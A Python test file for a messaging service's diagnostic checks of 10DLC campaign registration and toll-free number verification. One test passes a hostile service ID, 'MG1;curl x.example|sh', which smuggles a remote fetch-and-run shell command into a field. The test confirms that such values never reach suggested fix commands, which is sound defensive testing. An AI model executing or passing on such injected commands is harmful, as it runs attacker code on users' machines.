"""The two checks that decide a destination (30034, 30032): each trips and passes as a pure
function, and destination_findings reads exactly what they need for one service."""

from __future__ import annotations

from datetime import datetime, timezone

from conftest import ACCOUNT_SID, AUTH_TOKEN, SERVICE_SID, base_url_of, page, service
from corehelp import assert_request, sent
from factories import number

from msgsvc.api.client import Client, ClientSettings
from msgsvc.jobs.doctor.destination import destination_findings, ten_dlc, toll_free

NOW = datetime(2026, 12, 6, 12, 0, tzinfo=timezone.utc)
LONG = number("PN" + "1" * 32, "+15017122661")
FREE = number("PN" + "2" * 32, "+18005550100")
CANADA = number("PN" + "3" * 32, "+14165550100", country_code="CA")
SVC = service()
QE = "QE" + "4" * 32


def campaign(status: str, **extra) -> dict:
    return {"sid": QE, "campaign_status": status, "errors": [], "brand_registration_sid": "BN" + "5" * 32, **extra}


def verification(status: str, pn: str = FREE["sid"], **extra) -> dict:
    return {"sid": "HH" + "6" * 32, "tollfree_phone_number_sid": pn, "status": status,
            "date_created": "2026-12-01T10:00:00Z", **extra}


def lines(findings) -> list[tuple[str, str, str, str | None]]:
    return [(f.severity, f.check, f.evidence_text(), f.fix) for f in findings]


def test_us_long_codes_without_a_campaign_trip_30034():
    assert lines(ten_dlc(SVC, [LONG, FREE, CANADA], None)) == [
        ("error", "10dlc-no-campaign", "us_long_codes=1 campaign=none",
         f"msgsvc campaigns create {SERVICE_SID} --brand BRAND --usecase USECASE ...")]


def test_a_failed_campaign_shows_its_errors_and_one_in_review_says_wait():
    failed = campaign("FAILED", errors=[{"error_code": 30897, "description": "Disallowed Content.", "fields": ["DESCRIPTION"]}])
    assert lines(ten_dlc(SVC, [LONG], failed)) == [
        ("error", "10dlc-campaign-failed",
         f'us_long_codes=1 campaign={QE} campaign_status=FAILED errors="30897: Disallowed Content. (fields: DESCRIPTION)"',
         f"msgsvc campaigns update {SERVICE_SID} ...")]
    for status in ("PENDING", "IN_PROGRESS"):
        assert lines(ten_dlc(SVC, [LONG], campaign(status))) == [
            ("error", "10dlc-campaign-in-review", f"us_long_codes=1 campaign={QE} campaign_status={status}",
             f"msgsvc campaigns wait {SERVICE_SID}")]


def test_a_verified_campaign_or_no_us_long_code_passes_30034():
    assert ten_dlc(SVC, [LONG], campaign("VERIFIED")) == []
    assert ten_dlc(SVC, [FREE, CANADA], None) == []


def test_toll_free_numbers_without_an_approved_verification_trip_30032():
    other = number("PN" + "7" * 32, "+18885550100")
    found = toll_free(SVC, [LONG, FREE, other], {other["sid"]: verification("IN_REVIEW", other["sid"])}, NOW)
    assert lines(found) == [
        ("error", "tollfree-unverified", "toll_free=2 unverified=1 in_review=1 numbers=+18005550100,+18885550100",
         "msgsvc tollfree create +18005550100 --from-file verification.toml")]
    assert found[0].source == "https://www.twilio.com/docs/api/errors/30032"


def test_a_rejection_says_the_time_left_to_edit_or_that_it_must_be_filed_again():
    open_ = verification("TWILIO_REJECTED", edit_allowed=True, edit_expiration="2026-12-08T10:00:00Z",
                         rejection_reasons=[{"code": 30445, "description": "Website not reachable"}])
    assert lines(toll_free(SVC, [FREE], {FREE["sid"]: open_}, NOW)) == [
        ("error", "tollfree-rejected",
         f'number=+18005550100 verification={"HH" + "6" * 32} status=TWILIO_REJECTED edit_by="2026-12-08 10:00 UTC" '
         'reasons="30445: Website not reachable"',
         "msgsvc tollfree update +18005550100 --from-file verification.toml --edit-reason TEXT")]
    closed = verification("TWILIO_REJECTED", edit_allowed=False, rejection_reason="Opt-in unclear", error_code=30446)
    assert lines(toll_free(SVC, [FREE], {FREE["sid"]: closed}, NOW)) == [
        ("error", "tollfree-rejected",
         f'number=+18005550100 verification={"HH" + "6" * 32} status=TWILIO_REJECTED edit_by=none reasons="30446: Opt-in unclear"',
         "msgsvc tollfree delete +18005550100; msgsvc tollfree create +18005550100 --from-file verification.toml")]


def test_a_fix_names_no_service_or_number_the_server_sent_that_is_not_one():
    hostile = service("MG1;curl x.example|sh")
    assert lines(ten_dlc(hostile, [LONG], None))[0][3] == "msgsvc campaigns create SERVICE --brand BRAND --usecase USECASE ..."
    assert lines(ten_dlc(hostile, [LONG], campaign("FAILED")))[0][3] == "msgsvc campaigns update SERVICE ..."
    assert lines(ten_dlc(hostile, [LONG], campaign("PENDING")))[0][3] == "msgsvc campaigns wait SERVICE"
    # A line break after the number: a toll-free number still (a $ matches before it), not one to paste.
    odd = number("PN" + "2" * 32, "+18005550100\n")
    assert lines(toll_free(SVC, [odd], {}, NOW))[0][3] == "msgsvc tollfree create NUMBER --from-file verification.toml"
    assert lines(toll_free(SVC, [odd], {odd["sid"]: verification("IN_REVIEW")}, NOW))[0][3] == "msgsvc tollfree wait NUMBER"
    closed = verification("TWILIO_REJECTED", edit_allowed=False)
    assert lines(toll_free(SVC, [odd], {odd["sid"]: closed}, NOW))[0][3] == (
        "msgsvc tollfree delete NUMBER; msgsvc tollfree create NUMBER --from-file verification.toml")
    editable = verification("TWILIO_REJECTED", edit_allowed=True, edit_expiration="2026-12-08T10:00:00Z")
    assert lines(toll_free(SVC, [odd], {odd["sid"]: editable}, NOW))[0][3] == (
        "msgsvc tollfree update NUMBER --from-file verification.toml --edit-reason TEXT")


def test_an_approved_verification_passes_30032():
    assert toll_free(SVC, [LONG, FREE], {FREE["sid"]: verification("TWILIO_APPROVED")}, NOW) == []


def test_destination_findings_reads_the_numbers_campaign_and_verifications(httpserver):
    httpserver.expect_ordered_request(f"/v1/Services/{SERVICE_SID}").respond_with_json(SVC)
    httpserver.expect_ordered_request(f"/v1/Services/{SERVICE_SID}/PhoneNumbers").respond_with_json(page("phone_numbers", [LONG, FREE]))
    httpserver.expect_ordered_request(f"/v1/Services/{SERVICE_SID}/Compliance/Usa2p").respond_with_json(page("compliance", []))
    httpserver.expect_ordered_request("/v1/Tollfree/Verifications").respond_with_json(
        page("verifications", [verification("TWILIO_APPROVED")]))
    client = Client(ClientSettings(username=ACCOUNT_SID, password=AUTH_TOKEN, base_url=base_url_of(httpserver), max_retries=0))
    found = destination_findings(client, SERVICE_SID, "+15558675310", now=NOW)
    assert [f.check for f in found] == ["10dlc-no-campaign"]
    requests = sent(httpserver)
    assert_request(requests[0], "GET", f"/v1/Services/{SERVICE_SID}")
    assert_request(requests[1], "GET", f"/v1/Services/{SERVICE_SID}/PhoneNumbers", query="PageSize=1000")
    assert_request(requests[2], "GET", f"/v1/Services/{SERVICE_SID}/Compliance/Usa2p", query="PageSize=1")
    assert_request(requests[3], "GET", "/v1/Tollfree/Verifications",
                   query=f"TollfreePhoneNumberSid={FREE['sid']}&PageSize=1000")


def test_destination_findings_reads_nothing_for_a_destination_outside_plus_one(httpserver):
    client = Client(ClientSettings(username=ACCOUNT_SID, password=AUTH_TOKEN, base_url=base_url_of(httpserver), max_retries=0))
    assert destination_findings(client, SERVICE_SID, "+447700900123") == []
    assert sent(httpserver) == []
